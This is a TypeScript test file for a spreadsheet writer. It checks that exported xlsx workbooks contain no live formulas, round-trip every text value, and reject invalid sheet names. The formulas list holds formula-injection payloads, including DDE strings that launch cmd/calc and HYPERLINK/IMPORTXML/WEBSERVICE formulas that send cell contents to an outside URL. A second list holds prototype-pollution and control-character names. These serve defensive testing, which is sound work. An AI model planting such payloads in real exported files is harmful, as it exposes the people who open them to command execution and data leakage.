import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { BookValue } from './book-sheet.ts';
import { readXlsx } from './read.ts';
import { writeBook } from './write-book.ts';

/** What spreadsheets have been made to run; our own wording. */
const formulas = [
  '=1+1', '+1+1', '-1+1', '@SUM(1,1)', '＝1+1', '＋1', '－1', '＠SUM(1)', ' =1+1', '\u00A0=1', '\u3000=1', '  +1', '\t=1+1', '\r=1+1', '\n=1+1', '\r\n=1+1', '\t\t-1', '\uFEFF=1',
  '"=1+1"', '""=1', '"=1', "'=1", "''=1", "'\"=1", '" =1', "' =1", '=cmd|"/C calc"!A0', '+cmd|"/C calc"!A0', '-2+3+cmd|"/C calc"!A0', '@SUM(1+9)*cmd|"/C calc"!A0', "=DDE('cmd';'/C calc';'x')",
  '=HYPERLINK("http://example.org?x="&A1,"more")', '=IMPORTXML(CONCAT("http://example.org",A1),"//a")', '=WEBSERVICE("http://example.org")', '=A1:A9', '=1;=2', '=1,=2', '=1\t=2', '=1|=2',
  'x;=1+1', 'x,=1+1', 'x\t=1+1', 'x|=1+1', 'x\n=1+1', 'x\r=1+1', 'x\r\n=1+1', 'x;+1', 'x;-1', 'x;@a', '-', '+', '=', '@', "'", "''", '"', '{=1}', '=TRUE', '#REF!', '<f>1+1</f>', ']]>',
];
/** Names that programs take for something else; our own wording. */
const hostile = [
  '__proto__', 'constructor', 'toString', 'valueOf', 'hasOwnProperty', 'prototype', '', ' ', '  a  ', '\n', '\t', 'a\nb', 'a\r\nb', '\u0000', '\u0001', '\u001F', '\u007F', '\uFFFE', '\uFFFF', '\uD800', '\uDC00', 'a\uD800b', '_x0041_', '_x005F_x0041_', '_x_', '__x0000__',
  '👩‍👩‍👧', 'é', 'e\u0301', 'الجهة', '\u202Eabc', '<b>&amp;"\'', '&#x41;', 'null', 'undefined', 'NaN', '1e5', '007', 'TRUE', '2026-11-30', 'x'.repeat(10_000), 'a,b;c', '%s%n',
];

async function throughFile(rows: readonly (readonly BookValue[])[]) {
  const read = await readXlsx({ name: 'a.xlsx', content: writeBook({ sheets: [{ name: 'S', columns: [{ title: 'T' }], rows }] }) });
  if (!read.ok || !('sheets' in read)) throw new Error(JSON.stringify(read));
  expect(read.remarks).toEqual([]);
  return read.sheets[0]!.rows.slice(1);
}

describe('a workbook that Allymap writes', () => {
  it('holds no formula, and gives back every text', async () => {
    expect(formulas.length).toBeGreaterThanOrEqual(60);
    expect(await throughFile(formulas.map((text) => [text, 1]))).toEqual(formulas.map((text) => [text, 1]));
  });

  it('gives back names that programs take for something else', async () => {
    expect(hostile.length).toBeGreaterThanOrEqual(40);
    expect(await throughFile(hostile.map((text) => [text, true]))).toEqual(hostile.map((text) => [text, true]));
    expect(Object.getOwnPropertyNames(Object.prototype)).toHaveLength(12);
  });

  it('gives back any cells, but for empty ones at the ends', async () => {
    const value = fc.oneof(fc.string({ unit: 'binary' }), fc.string(), fc.double({ noNaN: true, noDefaultInfinity: true }), fc.boolean(), fc.constant(null));
    const trimmed = (cells: readonly BookValue[]): readonly BookValue[] => cells.slice(0, cells.findLastIndex((cell) => cell !== null) + 1);
    await fc.assert(
      fc.asyncProperty(fc.array(fc.array(value, { maxLength: 6 }), { minLength: 1, maxLength: 8 }), async (rows) => {
        const cut = rows.map(trimmed);
        const last = cut.findLastIndex((cells) => cells.length > 0);
        expect(await throughFile(rows)).toEqual(cut.slice(0, last + 1).map((cells) => cells.map((cell) => (cell === 0 ? 0 : cell))));
      }),
      { numRuns: 150, seed: 12 },
    );
  });

  it('is the same file every time', () => {
    const make = (): Uint8Array => writeBook({ sheets: [{ name: 'S', columns: [{ title: 'T' }], rows: [['a']] }] });
    expect(make()).toEqual(make());
  });

  it('has sheets with names that a workbook can hold', () => {
    const named = (...names: string[]) => () => writeBook({ sheets: names.map((name) => ({ name, columns: [], rows: [] })) });
    for (const name of ['', 'a/b', 'a:b', "'a", "a'", '[a]', 'a?', 'a*', 'a\\b', 'x'.repeat(32)]) expect(named(name)).toThrow(RangeError);
    expect(named('a', 'A')).toThrow(RangeError);
    expect(named("l'été", 'x'.repeat(31))).not.toThrow();
  });
});
